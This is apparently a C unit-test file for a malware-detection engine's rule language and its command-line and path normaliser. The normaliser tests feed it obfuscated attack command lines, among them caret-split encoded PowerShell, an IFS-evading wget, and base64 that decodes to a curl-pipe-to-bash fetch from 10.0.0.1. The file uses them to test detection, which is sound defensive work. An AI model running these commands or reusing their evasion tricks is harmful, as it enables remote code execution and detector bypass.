/* The condition language: what compiles, what does not, and what each operator means. */

#include "detect/graph_builder.h"

#include "base/mem.h"
#include "detect/patterns_int.h"

static int compile(const char *condition, struct lg_err *err)
{
    struct lg_pat_program pg;
    int rc;

    assert_int_equal(lg_pat_program_init(&pg), 0);
    rc = lg_pat_compile(&pg, LG_PLATFORM_WINDOWS, condition, err);
    if (rc >= 0) {
        assert_int_equal(pg.rules.n, 1);
        assert_true(pg.rules.v[0].n_groups >= 1);
    }
    lg_pat_program_done(&pg);
    return rc;
}

static void test_every_row_compiles(void **state)
{
    struct lg_err err;

    (void)state;
    for (uint32_t i = 0; i < lg_pattern_count(); i++)
        if (compile(lg_pattern_get(i)->condition, &err) < 0)
            fail_msg("%s: %s", lg_pattern_get(i)->id, err.text);
}

static void test_refusals(void **state)
{
    static const char *const bad[] = {
            "",
            "process;",
            "nothing; base = x",
            "process; base",
            "process; base = ",
            "process; base = x||y",
            "process; src.base = x",
            "access; base = x",
            "access; src.detail ~ x",
            "process; attr ~ unsigned",
            "access; attr ~ no_such",
            "process; flags ~ no_such",
            "process; base !& x",
            "process; base >= 3",
            "process; cmdlen ~ 3",
            "process; cmdlen >= x",
            "process; il >= sky",
            "process; cmd ~ Upper",
            "process && write; dst.base = x",
            "process && near write; dst.base = x",
            "process && out process",
            "process; n >= 3",
            "process && out write; n >= 0",
            "process && out write; n = 3",
            "process; colour = red",
    };
    struct lg_err err;

    (void)state;
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        err.text[0] = '\0';
        if (compile(bad[i], &err) != LG_EPARSE)
            fail_msg("compiles: %s", bad[i]);
        assert_true(strlen(err.text) > 5);
    }
}

static struct lg_arena arena;

static void cleaned(enum lg_platform pf, const char *in, const char *want)
{
    struct lg_str got;

    lg_arena_clear(&arena);
    assert_int_equal(lg_pat_clean(&arena, pf, lg_str_z(in), &got), 0);
    if (!lg_str_eq(got, lg_str_z(want)))
        fail_msg("\"%s\" -> \"%.*s\", not \"%s\"", in, LG_STR_FMT(got), want);
}

static void test_text_is_cleaned(void **state)
{
    (void)state;
    lg_arena_init(&arena, 1u << 20);
    cleaned(LG_PLATFORM_WINDOWS, "", "");
    cleaned(LG_PLATFORM_WINDOWS, "P^ow\"er\"She`ll  \t -Enc X", " powershell /enc x ");
    cleaned(LG_PLATFORM_WINDOWS, "a \xe2\x80\x93nop \xe2\x80\x94w 1", " a /nop /w 1 ");
    cleaned(LG_PLATFORM_WINDOWS, "I('Inv'+'oke-' + 'X')", " i('invoke-x') ");
    cleaned(LG_PLATFORM_WINDOWS, "x '+", " x '+ ");
    cleaned(LG_PLATFORM_WINDOWS, "a-b -c", " a-b /c ");
    cleaned(LG_PLATFORM_WINDOWS, "a --install -x", " a /install /x ");
    cleaned(LG_PLATFORM_LINUX, "w\\get '-q'${IFS}\"http://x\"", " wget -q http://x ");
    cleaned(LG_PLATFORM_LINUX, "a\\", " a\\ ");
    /* UTF-16 and ASCII behind base64 */
    cleaned(LG_PLATFORM_WINDOWS, "-e SQBFAFgAIAAnAGEAYgBjAGQAZQBmAGcAaABpAGoAawAnAA==",
            " /e sqbfafgaiaanageaygbjagqazqbmagcaaabpagoaawanaa== iex 'abcdefghijk' ");
    cleaned(LG_PLATFORM_LINUX, "echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IGJhc2g=",
            " echo y3vybcbodhrwoi8vmtaumc4wljevysb8igjhc2g= curl http://10.0.0.1/a | bash ");
    lg_arena_done(&arena);
}

static void path_is(bool registry, const char *in, const char *want)
{
    struct lg_str got;

    lg_arena_clear(&arena);
    assert_int_equal(
            lg_pat_clean_path(&arena, LG_PLATFORM_WINDOWS, registry, lg_str_z(in), &got), 0);
    if (!lg_str_eq(got, lg_str_z(want)))
        fail_msg("\"%s\" -> \"%.*s\", not \"%s\"", in, LG_STR_FMT(got), want);
}

static void test_paths_have_one_spelling(void **state)
{
    (void)state;
    lg_arena_init(&arena, 1u << 20);
    path_is(false, "C:/Windows/X.exe", "c:\\windows\\x.exe");
    path_is(false, "\\??\\C:\\X", "c:\\x");
    path_is(false, "\\Device\\HarddiskVolume12\\Windows\\x.exe", "c:\\windows\\x.exe");
    path_is(false, "\\Device\\HarddiskVolume", "\\device\\harddiskvolume");
    path_is(false, "\\SystemRoot\\System32\\smss.exe", "c:\\windows\\system32\\smss.exe");
    path_is(false, "%SystemRoot%\\a", "c:\\windows\\a");
    path_is(false, "", "");
    path_is(true, "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\x",
            "hklm\\system\\currentcontrolset\\services\\x");
    path_is(true, "HKEY_LOCAL_MACHINE\\Software", "hklm\\software");
    path_is(true, "HKLM\\System\\ControlSet00", "hklm\\system\\controlset00");
    lg_arena_done(&arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_every_row_compiles),
            cmocka_unit_test(test_refusals),
            cmocka_unit_test(test_text_is_cleaned),
            cmocka_unit_test(test_paths_have_one_spelling),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
